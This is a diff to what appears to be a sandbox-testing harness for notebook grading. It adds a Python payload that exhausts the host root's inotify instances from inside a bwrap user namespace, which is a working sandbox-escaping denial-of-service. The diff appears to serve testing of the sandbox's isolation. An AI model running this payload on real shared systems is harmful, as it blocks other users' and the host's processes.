@@ -51,6 +51,25 @@ print("semaphore sets left by an earlier exercise:", len(mine))
 WON = len(mine) >= 128
 """
 
+# inotify instances: the sandbox's uid is root's outside (bwrap run by root maps 65534 -> 0), and the kernel
+# charges a user namespace's counts to its creator's too, so the exercise spends the host root's
+# fs.inotify.max_user_instances (128 here): while it holds them, no root process on the host can make one.
+INOTIFY_EX1 = """
+import ctypes
+import time
+
+libc = ctypes.CDLL(None, use_errno=True)
+made = []
+while len(made) < 250:
+    fd = libc.inotify_init1(0)
+    if fd < 0:
+        break
+    made.append(fd)
+print("inotify instances held:", len(made))
+time.sleep(8)  # what a host process of root's meets meanwhile: EMFILE
+WON = len(made) >= 120
+"""
+
 
 def build(name: str, bodies: dict[str, str]) -> Path:
     nb = nbformat.read(STUDENT, as_version=4)
@@ -68,6 +87,7 @@ ATTACKS = {
         "ex1-output-delta": SEMAPHORES_EX1 + RIGHT["ex1-output-delta"],
         "ex2-hidden-delta": SEMAPHORES_EX2 + RIGHT["ex2-hidden-delta"],
     },
+    "inotify-instances-of-the-hosts-root": {"ex1-output-delta": INOTIFY_EX1 + RIGHT["ex1-output-delta"]},
 }
 
 if __name__ == "__main__":
